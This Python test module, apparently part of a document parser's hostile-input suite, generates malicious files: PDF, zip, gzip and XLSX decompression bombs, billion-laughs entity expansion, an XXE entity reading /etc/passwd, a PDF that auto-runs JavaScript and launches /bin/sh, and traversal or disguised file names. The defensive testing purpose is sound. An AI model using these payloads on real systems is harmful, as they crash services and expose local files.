"""Makes documents that attack their reader. Run as a module to look at them: `python -m tests.hostile.documents DIR`."""

from __future__ import annotations

import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

MIB = 1 << 20


def pdf(objects: dict[int, bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF of these objects with a right cross-reference table."""
    parts = [b"%PDF-1.7\n"]
    places = {}
    length = len(parts[0])
    for number, body in objects.items():
        places[number] = length
        parts.append(b"%d 0 obj\n%b\nendobj\n" % (number, body))
        length += len(parts[-1])
    size = max(objects) + 1
    rows = [b"0000000000 65535 f \n"]
    rows += [
        b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
        for number in range(1, size)
    ]
    table = b"xref\n0 %d\n%b" % (size, b"".join(rows))
    end = b"trailer\n<< /Size %d %b >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, length)
    return b"".join([*parts, table, end])


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), entries, content)


@dataclass(frozen=True)
class Repeated:
    """Bytes too many to make: a head, a block so many times, a tail. Compressed without being written out."""

    block: bytes
    times: int
    head: bytes = b""
    tail: bytes = b""

    def __len__(self) -> int:
        return len(self.head) + len(self.block) * self.times + len(self.tail)

    def pieces(self) -> Iterator[bytes]:
        yield self.head
        for _ in range(self.times):
            yield self.block
        yield self.tail

    def deflated(self) -> bytes:
        """As a raw deflate stream: after a full flush a block stands alone, so it can be repeated as it is."""

        def part(content: bytes) -> bytes:
            compressor = zlib.compressobj(9, wbits=-15)
            return compressor.compress(content) + compressor.flush(zlib.Z_FULL_FLUSH)

        return part(self.head) + part(self.block) * self.times + part(self.tail) + b"\x03\x00"

    def checksum(self, function: Callable[[bytes, int], int], start: int) -> int:
        value = start
        for piece in self.pieces():
            value = function(piece, value)
        return value

    def flate(self) -> bytes:
        """As a zlib stream, PDF's FlateDecode."""
        return b"\x78\xda" + self.deflated() + self.checksum(zlib.adler32, 1).to_bytes(4, "big")

    def gzip(self) -> bytes:
        end = self.checksum(zlib.crc32, 0).to_bytes(4, "little") + (len(self) & 0xFFFFFFFF).to_bytes(
            4, "little"
        )
        return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + self.deflated() + end


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def one_page(content: bytes, resources: bytes = b"/Font << /F 5 0 R >>", **more: bytes) -> bytes:
    """A PDF of one page whose content stream (an object body) is given."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %b >>" % more.get("catalog", b""),
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << %b >> >>"
        % resources,
        4: content,
        5: FONT,
    }
    return pdf(objects)


def text(words: bytes) -> bytes:
    return stream(b"BT /F 12 Tf 72 720 Td (" + words + b") Tj ET")


# --- PDF


def pdf_stream_bomb() -> bytes:
    """A page whose content is 1.5 GiB of drawing, in 3 MiB of Flate."""
    line = b"BT /F 12 Tf 1 0 0 1 72 720 Tm (x) Tj ET\n"
    return one_page(stream(Repeated(line * (MIB // len(line)), 1536).flate(), b"/Filter /FlateDecode"))


def pdf_nested_filter_bomb() -> bytes:
    """A page whose content is 1.5 GiB of blanks under two layers of Flate, in some 10 KiB."""
    inner = Repeated(b" " * MIB, 1536).flate()
    return one_page(stream(zlib.compress(inner, 9), b"/Filter [/FlateDecode /FlateDecode]"))


def pdf_many_pages() -> bytes:
    """100,000 pages."""
    kids = range(3, 100_003)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Count 100000 /Kids [%b] >>" % b" ".join(b"%d 0 R" % kid for kid in kids),
    }
    objects |= dict.fromkeys(kids, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
    return pdf(objects)


def pdf_claims_pages() -> bytes:
    """One page, and a page tree that claims two thousand million."""
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        }
    )


def pdf_page_tree_loop() -> bytes:
    """A page tree that is its own child."""
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Parent 3 0 R /Kids [3 0 R 2 0 R] /Count 2 >>",
            3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 2 >>",
        }
    )


def pdf_content_loop() -> bytes:
    """A page whose content stream's length is the stream itself."""
    return one_page(b"<< /Length 4 0 R >>\nstream\nBT (x) Tj ET\nendstream")


def pdf_cross_reference_loop() -> bytes:
    """A cross-reference table whose previous table is itself."""
    whole = one_page(text(b"x"))
    place = whole.rindex(b"xref\n0 ")
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % place)


def pdf_form_draws_itself() -> bytes:
    """A form that draws itself."""
    form = stream(
        b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /XObject << /X 6 0 R >> >> >>",
            4: stream(b"/X Do"),
            6: form,
        }
    )


def pdf_forms_multiply() -> bytes:
    """Twelve forms, each of which draws the next ten times: 10^12 letters in 4 KiB."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /XObject << /X 6 0 R >> >> >>",
        4: stream(b"/X Do"),
        5: FONT,
    }
    for number in range(6, 18):
        objects[number] = stream(
            b"/X Do\n" * 10,
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>"
            % (number + 1),
        )
    objects[18] = stream(
        b"BT /F 1 Tf (x) Tj ET",
        b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /Font << /F 5 0 R >> >>",
    )
    return pdf(objects)


def pdf_deep_array() -> bytes:
    """A page whose annotations are an array 100,000 deep."""
    deep = b"[" * 100_000 + b"]" * 100_000
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots %b >>" % deep,
        }
    )


def pdf_huge_page() -> bytes:
    """A page of 10^30 points."""
    return one_page(text(b"x")).replace(b"[0 0 595 842]", b"[0 0 1e30 1e30]")


def pdf_javascript() -> bytes:
    """A page that runs JavaScript when it is opened, and wants to start a program."""
    script = b"(app.alert\\(1\\); this.submitForm\\('http://127.0.0.1:9/'\\); while \\(true\\) {})"
    return one_page(
        text(b"x"),
        catalog=b"/OpenAction << /S /JavaScript /JS %b >> /Names << /JavaScript << /Names [(a) "
        b"<< /S /JavaScript /JS %b >>] >> >> /AA << /WC << /S /Launch /F (/bin/sh) >> >>" % (script, script),
    )


# --- workbooks and archives


def archive(members: dict[str, Repeated | bytes]) -> bytes:
    """A zip of these members (APPNOTE.TXT 4.3), each deflated."""
    parts: list[bytes] = []
    directory: list[bytes] = []
    length = 0
    for name, content in members.items():
        whole = content if isinstance(content, Repeated) else Repeated(content, 1)
        data = whole.deflated()
        fields = struct.pack(
            "<HHHHHIIIHH", 20, 0, 8, 0, 33, whole.checksum(zlib.crc32, 0), len(data), len(whole), len(name), 0
        )
        directory.append(
            b"PK\x01\x02\x14\x00" + fields + struct.pack("<HHHII", 0, 0, 0, 0, length) + name.encode()
        )
        parts += [b"PK\x03\x04" + fields + name.encode(), data]
        length += len(parts[-2]) + len(data)
    entries = b"".join(directory)
    count = len(members)
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(entries), length, 0)
    return b"".join([*parts, entries, end])


_MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RELATED = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def workbook(sheet: Repeated | bytes, strings: Repeated | bytes | None = None) -> bytes:
    """A workbook of one sheet whose XML is given."""
    kinds = b"application/vnd.openxmlformats-officedocument.spreadsheetml."
    relation = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    members: dict[str, Repeated | bytes] = {
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Override PartName="/xl/workbook.xml" ContentType="%bsheet.main+xml"/>'
        b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="%bworksheet+xml"/>'
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="%bsharedStrings+xml"/></Types>'
        % (kinds, kinds, kinds),
        "_rels/.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="%bofficeDocument" Target="xl/workbook.xml"/></Relationships>'
        % relation,
        "xl/workbook.xml": b'<workbook %b %b><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'
        % (_MAIN, _RELATED),
        "xl/_rels/workbook.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="%bworksheet" Target="worksheets/sheet1.xml"/>'
        b'<Relationship Id="r2" Type="%bsharedStrings" Target="sharedStrings.xml"/></Relationships>'
        % (relation, relation),
        "xl/worksheets/sheet1.xml": sheet,
    }
    members["xl/sharedStrings.xml"] = strings if strings is not None else b"<sst %b/>" % _MAIN
    return archive(members)


def _sheet(block: bytes, times: int) -> Repeated:
    return Repeated(block, times, head=b"<worksheet %b><sheetData>" % _MAIN, tail=b"</sheetData></worksheet>")


def xlsx_sheet_bomb() -> bytes:
    """A sheet of 2 GiB of blanks."""
    return workbook(_sheet(b" " * MIB, 2048))


def xlsx_cell_bomb() -> bytes:
    """A sheet of 40 million cells."""
    return workbook(_sheet((b"<row>" + b"<c><v>1</v></c>" * 400 + b"</row>") * 100, 1000))


def xlsx_string_bomb() -> bytes:
    """One shared string of 1 GiB, printed in a thousand cells."""
    strings = Repeated(b"a" * MIB, 1024, head=b"<sst %b><si><t>" % _MAIN, tail=b"</t></si></sst>")
    return workbook(_sheet(b'<row r="1">' + b'<c t="s"><v>0</v></c>' * 1000 + b"</row>", 1), strings)


def xlsx_far_cells() -> bytes:
    """Two cells, A1 and XFD1048576: seventeen thousand million cells between them."""
    return workbook(
        b'<worksheet %b><dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>' % _MAIN
    )


def _laughs(depth: int = 12) -> bytes:
    entities = [b'<!ENTITY l0 "ha">']
    entities += [b'<!ENTITY l%d "%b">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, depth)]
    return b'<?xml version="1.0"?><!DOCTYPE worksheet [%b]>' % b"".join(entities)


def xlsx_billion_laughs() -> bytes:
    """A sheet whose one cell is 10^11 × "ha" by entities that multiply."""
    return workbook(
        _laughs()
        + b'<worksheet %b><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&l11;</t></is></c></row></sheetData></worksheet>'
        % _MAIN
    )


def xlsx_external_entity() -> bytes:
    """A sheet whose one cell is a file of the machine that reads it."""
    return workbook(
        b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
        b'<worksheet %b><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&f;</t></is></c></row></sheetData></worksheet>'
        % _MAIN
    )


def xlsx_merged_bomb() -> bytes:
    """A sheet whose one merged cell covers everything, ten thousand times."""
    merges = b'<mergeCell ref="A1:XFD1048576"/>' * 10_000
    return workbook(
        b'<worksheet %b><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>'
        b'<mergeCells count="10000">%b</mergeCells></worksheet>' % (_MAIN, merges)
    )


def xlsx_damaged() -> bytes:
    """A sheet of which one byte is not what its checksum says."""
    whole = bytearray(workbook(_sheet(b'<row r="1"><c r="A1"><v>1</v></c></row>', 1)))
    with zipfile.ZipFile(io.BytesIO(whole)) as file:
        place = file.getinfo("xl/worksheets/sheet1.xml").header_offset
    whole[place + 14] ^= 1  # the checksum in the member's own head …
    name = whole.rindex(b"xl/worksheets/sheet1.xml")
    whole[name - 46 + 16] ^= 1  # … and in the directory
    return bytes(whole)


def zip_bomb() -> bytes:
    """Sixteen zips of sixteen files of 64 MiB."""
    inner = archive({f"{number}.csv": Repeated(b"0" * MIB, 64) for number in range(16)})
    return archive({f"{number}.zip": inner for number in range(16)})


def zip_of_many_names() -> bytes:
    """A zip with a directory of 100,000 empty files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for number in range(100_000):
            file.writestr(zipfile.ZipInfo(f"{number}"), b"")
    return out.getvalue()


def gzip_bomb() -> bytes:
    """1 GiB of blanks in 1 MiB of gzip."""
    return Repeated(b" " * MIB, 1024).gzip()


def xls_loop() -> bytes:
    """An OLE file whose allocation table points at itself."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:34] = b"\x3e\x00\x03\x00\xfe\xff\x09\x00\x06\x00"
    header[44:48] = (1).to_bytes(4, "little")
    header[56:60] = (4096).to_bytes(4, "little")
    header[60:76] = b"\x00" * 16
    header[76:80] = (0).to_bytes(4, "little")
    header[80:] = b"\x00" * (512 - 80)
    return bytes(header) + b"\x00" * 512 * 8


# --- HTML, CSV, XML


def html_of_100_mib() -> bytes:
    """A page of 100 MiB of table rows."""
    row = "<tr><td>契約</td><td>1,000円</td></tr>\n".encode()
    return b"<!DOCTYPE html><html><body><table>" + row * (100 * MIB // len(row)) + b"</table></body></html>"


def html_deep() -> bytes:
    """A page whose elements stand a million deep."""
    return b"<!DOCTYPE html><html><body>" + b"<div><table><tr><td>" * 250_000 + b"x"


def html_spans() -> bytes:
    """A table whose cells claim to span 10^9 rows and columns, a thousand times."""
    cell = b'<td rowspan="1000000000" colspan="1000000000">x</td>'
    return b"<!DOCTYPE html><html><body><table>" + b"<tr>%b</tr>" % cell * 1000 + b"</table></body></html>"


def xml_billion_laughs() -> bytes:
    """XML whose entities multiply to 10^11 × "ha", with the start of an HTML page."""
    return _laughs() + b"<html><body><table><tr><td>&l11;</td></tr></table></body></html>"


def csv_of_one_line() -> bytes:
    """A CSV of one line with 20 million cells."""
    return b"1," * 20_000_000


def noise() -> bytes:
    """Bytes that are nothing."""
    return bytes(zlib.compress(bytes(range(256)) * 64, 9))[2:] * 512


DOCUMENTS: dict[str, Callable[[], bytes]] = {
    "stream_bomb.pdf": pdf_stream_bomb,
    "nested_filter_bomb.pdf": pdf_nested_filter_bomb,
    "many_pages.pdf": pdf_many_pages,
    "claims_pages.pdf": pdf_claims_pages,
    "page_tree_loop.pdf": pdf_page_tree_loop,
    "content_loop.pdf": pdf_content_loop,
    "cross_reference_loop.pdf": pdf_cross_reference_loop,
    "form_draws_itself.pdf": pdf_form_draws_itself,
    "forms_multiply.pdf": pdf_forms_multiply,
    "deep_array.pdf": pdf_deep_array,
    "huge_page.pdf": pdf_huge_page,
    "javascript.pdf": pdf_javascript,
    "sheet_bomb.xlsx": xlsx_sheet_bomb,
    "cell_bomb.xlsx": xlsx_cell_bomb,
    "string_bomb.xlsx": xlsx_string_bomb,
    "far_cells.xlsx": xlsx_far_cells,
    "billion_laughs.xlsx": xlsx_billion_laughs,
    "external_entity.xlsx": xlsx_external_entity,
    "merged_bomb.xlsx": xlsx_merged_bomb,
    "damaged.xlsx": xlsx_damaged,
    "bomb.zip": zip_bomb,
    "many_names.zip": zip_of_many_names,
    "bomb.csv.gz": gzip_bomb,
    "loop.xls": xls_loop,
    "of_100_mib.html": html_of_100_mib,
    "deep.html": html_deep,
    "spans.html": html_spans,
    "billion_laughs.xml": xml_billion_laughs,
    "one_line.csv": csv_of_one_line,
    "noise.bin": noise,
}

NAMES = (
    "../../etc/passwd",
    "..\\..\\boot.ini",
    "a\x00b.pdf",
    "\u202efdp.exe",
    "名" * 100,  # 300 bytes of UTF-8, more than a file name may have
    "con",
    "a\nb",
    "%2e%2e%2f",
    "-rf",
)
"""Names and addresses that documents come with."""

if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name, make in DOCUMENTS.items():
        (folder / name).write_bytes(make())
